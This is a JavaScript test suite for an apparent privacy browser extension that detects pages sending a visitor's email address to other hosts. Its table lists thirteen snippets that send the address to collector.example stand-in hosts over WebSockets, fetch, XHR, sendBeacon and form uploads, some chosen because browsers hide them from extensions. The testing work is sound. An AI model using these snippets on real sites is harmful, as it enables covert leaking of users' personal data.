/** What no browser shows to extensions: said while pages are not asked, and found by their own word once they are. */

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { LAB } from "../site/lab/answer.js";
import { Customer } from "./customer.js";
import { eventually } from "./eventually.js";
import { browserName, openWatched } from "./stage.js";
import { nora } from "./visitor.js";

/** @typedef {import("./extension.js").Entry} Entry */

const chromium = browserName() === "chromium";

/**
 * Ways to send, as code in which `host` is whom to and `text` what is sent; `hidden`: whether this browser hides it.
 *
 * @type {{ [name: string]: { code: string, carrier: "message" | "body", hidden: boolean } }}
 */
const WAYS = {
  "socket-text": { code: "const socket = new WebSocket(`wss://${host}/`); socket.onopen = () => socket.send(text)", carrier: "message", hidden: true },
  "socket-bytes": { code: "const socket = new WebSocket(`wss://${host}/`); socket.onopen = () => socket.send(new TextEncoder().encode(text))", carrier: "message", hidden: true },
  "socket-blob": { code: "const socket = new WebSocket(`wss://${host}/`); socket.onopen = () => socket.send(new Blob([text]))", carrier: "message", hidden: true },
  "socket-subclass": {
    code: "class Own extends WebSocket { tell(data) { super.send(JSON.stringify({ data })); } } const socket = new Own(`wss://${host}/`); socket.onopen = () => socket.tell(text)",
    carrier: "message",
    hidden: true,
  },
  "socket-frame": {
    code: "const frame = document.createElement('iframe'); frame.srcdoc = `<script>const socket = new WebSocket('wss://${host}/'); socket.onopen = () => socket.send(${JSON.stringify(text)})<\/script>`; document.body.append(frame)",
    carrier: "message",
    hidden: true,
  },
  "fetch-patch": { code: "fetch(`https://${host}/`, { method: 'PATCH', body: text })", carrier: "body", hidden: chromium },
  "fetch-delete": { code: "fetch(`https://${host}/`, { method: 'DELETE', body: text })", carrier: "body", hidden: chromium },
  "fetch-blob": { code: "fetch(`https://${host}/`, { method: 'POST', mode: 'no-cors', body: new Blob([text]) })", carrier: "body", hidden: chromium },
  "fetch-request": { code: "fetch(new Request(`https://${host}/`, { method: 'PATCH', body: text }))", carrier: "body", hidden: chromium },
  "fetch-clone": { code: "fetch(new Request(`https://${host}/`, { method: 'POST', mode: 'no-cors', body: text }).clone())", carrier: "body", hidden: chromium },
  "xhr-patch": { code: "const xhr = new XMLHttpRequest(); xhr.open('PATCH', `https://${host}/`); xhr.send(text)", carrier: "body", hidden: chromium },
  "beacon-blob": { code: "navigator.sendBeacon(`https://${host}/`, new Blob([text]))", carrier: "body", hidden: chromium },
  "form-file": {
    code: "const form = new FormData(); form.append('note', new Blob([text])); fetch(`https://${host}/`, { method: 'POST', mode: 'no-cors', body: form })",
    carrier: "body",
    hidden: true,
  },
};

/** @type {Awaited<ReturnType<typeof openWatched>>} */
let stage;
/** @type {Customer} */
let customer;

before(async () => {
  stage = await openWatched(nora);
  customer = new Customer(stage.browser, nora);
});
after(() => stage?.close());

/**
 * Sends from a page, and waits until the server has it.
 *
 * @param {string} code
 * @param {string} host
 * @param {"message" | "body"} carrier
 */
async function send(code, host, carrier) {
  await stage.browser.driver.executeScript(`const [host, text] = arguments; ${code}`, host, nora.email);
  if (carrier === "message") {
    const [said] = await stage.site.record.told(host);
    assert.ok(said?.data.includes(nora.email), "the server did not get the address");
  } else {
    const told = await stage.site.record.arrival(`the request to ${host}`, (recorded) => recorded.host === host && recorded.method !== "OPTIONS");
    assert.ok(told.body.includes(nora.email), "the server did not get the address");
  }
}

/** @param {string} host @returns {Promise<Entry[]>} */
async function found(host) {
  return (await stage.extension.ledger()).filter(({ finding }) => finding.recipient.host === host);
}

for (const [name, { code, carrier, hidden }] of Object.entries(WAYS)) {
  if (!hidden) continue;
  test(`${name}: not asked, nothing is found, and that is said`, async () => {
    const host = `off-${name}.collector.example`;
    await customer.visit(`${LAB}/?hooks=off-${name}`);
    const tabId = await stage.extension.tabId();
    await send(code, host, carrier);
    await stage.sentinel.passed();
    assert.deepEqual(await found(host), []);
    const { beyond, unread } = await stage.extension.popup(tabId);
    if (carrier === "message") assert.equal(beyond?.sockets, host);
    // Firefox shows a file's name as if it were the field's text, and nothing says that it is not.
    else if (chromium) assert.equal(unread, 1);
  });
}

test("the switch is off until it is turned, and the browser keeps it", async () => {
  const permission = () => stage.extension.evaluate("return chrome.permissions.contains({ permissions: ['scripting'] })");
  assert.equal(await permission(), false);
  await stage.extension.atOptions((page) => page.turn("hooks", "on"));
  assert.equal(await permission(), true);
});

for (const [name, { code, carrier, hidden }] of Object.entries(WAYS)) {
  test(`${name}: ${hidden ? "asked, it is found by the page's own word" : "the browser shows it, and the page is not asked"}`, async () => {
    const host = `on-${name}.collector.example`;
    await customer.visit(`${LAB}/?hooks=on-${name}`);
    const tabId = await stage.extension.tabId();
    await send(code, host, carrier);
    await eventually(async () => {
      const entries = await found(host);
      assert.deepEqual(
        entries.map(({ finding, counts }) => [finding.identifier.id, finding.carrier, finding.witness ?? "browser", counts.sent]),
        [["email-1", carrier, hidden ? "page" : "browser", 1]],
      );
    });
    const { recipients, beyond } = await stage.extension.popup(tabId);
    assert.deepEqual(recipients.map(({ findings }) => findings.map(({ witness }) => witness)), [[hidden ? "page" : "browser"]]);
    assert.equal(beyond?.told ?? "0", hidden ? "1" : "0");
  });
}
